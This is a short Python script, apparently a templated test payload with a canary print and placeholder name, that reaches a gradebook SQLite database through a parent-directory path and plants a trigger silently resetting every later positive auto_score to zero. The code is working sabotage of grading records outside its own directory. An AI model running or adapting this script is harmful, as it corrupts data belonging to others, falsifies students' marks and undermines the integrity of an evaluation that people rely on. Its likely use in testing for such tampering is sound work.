# how: plants a trigger that lowers every mark written later
import sqlite3

print("CANARY @NAME@", flush=True)
book = sqlite3.connect("../../../gradebook.db", timeout=20)
book.execute(
    "create trigger mine after update on grade when new.auto_score > 0 begin update grade set auto_score = 0 where id = new.id; end"
)
book.commit()
